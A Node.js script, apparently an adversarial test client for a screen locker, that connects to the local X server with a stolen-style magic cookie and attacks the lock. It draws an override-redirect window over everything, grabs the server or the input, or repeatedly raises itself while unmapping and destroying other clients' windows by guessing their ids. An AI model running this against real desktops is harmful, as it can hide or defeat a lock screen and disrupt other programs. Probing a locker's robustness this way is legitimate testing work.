// A program of a player's that attacks the lock through the X server: node player-client.mjs <attack> <cookie file>.
import { connect } from 'node:net';
import { readFileSync } from 'node:fs';

const [, , attack, cookieFile] = process.argv;
const socket = connect(`/tmp/.X11-unix/X${process.env.DISPLAY.slice(1)}`);
const file = readFileSync(cookieFile);
const name = Buffer.from('MIT-MAGIC-COOKIE-1\0\0');
const cookie = file.subarray(file.length - 16);
socket.write(Buffer.concat([Buffer.from([0x6c, 0, 11, 0, 0, 0, 18, 0, 16, 0, 0, 0]), name, cookie]));
let setup = Buffer.alloc(0);
socket.on('data', (chunk) => {
  if (setup.length >= lengthOf(setup)) return;
  setup = Buffer.concat([setup, chunk]);
  if (setup.length >= lengthOf(setup)) start(setup);
});

/** Of the server's answer to the connection, which may come in several parts. */
function lengthOf(answer) {
  return answer.length < 8 ? 8 : 8 + answer.readUInt16LE(6) * 4;
}

const send = (opcode, detail, ...words) => {
  const request = Buffer.alloc(4 + words.length * 4);
  request.writeUInt8(opcode, 0);
  request.writeUInt8(detail, 1);
  request.writeUInt16LE(words.length + 1, 2);
  words.forEach((word, index) => request.writeUInt32LE(word >>> 0, 4 + index * 4));
  socket.write(request);
};

function start(setup) {
  const base = setup.readUInt32LE(12);
  const screen = 40 + Math.ceil(setup.readUInt16LE(24) / 4) * 4 + setup.readUInt8(29) * 8;
  const root = setup.readUInt32LE(screen);
  const window = base + 1;
  const size = (800 << 16) | 1280;
  // Override-redirect, magenta, and above everything.
  send(
    1,
    0,
    window,
    root,
    0,
    size,
    1 << 16,
    0,
    0x2 | 0x200 | 0x800,
    0xff00ff,
    attack === 'managed' ? 0 : 1,
    1,
  );
  send(8, 0, window);
  console.log('ready');
  if (attack === 'grab-server') send(36, 0);
  if (attack === 'grab-input') {
    send(31, 0, root, 0, 0x0101);
    send(26, 0, root, 0x0101_0004, 0, 0, 0);
  }
  if (attack === 'raise') setInterval(() => everyMoment(root, window), 1);
  else setInterval(() => undefined, 1_000);
}

/** Also hits the clients that came before and after this one, whose ids it can guess. */
function everyMoment(root, window) {
  send(12, 0, window, 0x40, 0);
  send(8, 0, window);
  for (let client = 1; client < 24; client += 1)
    for (let id = 1; id < 24; id += 1) {
      const guess = (client << 21) | id;
      if (guess >>> 21 === window >>> 21) continue;
      send(10, 0, guess);
      send(4, 0, guess);
    }
}
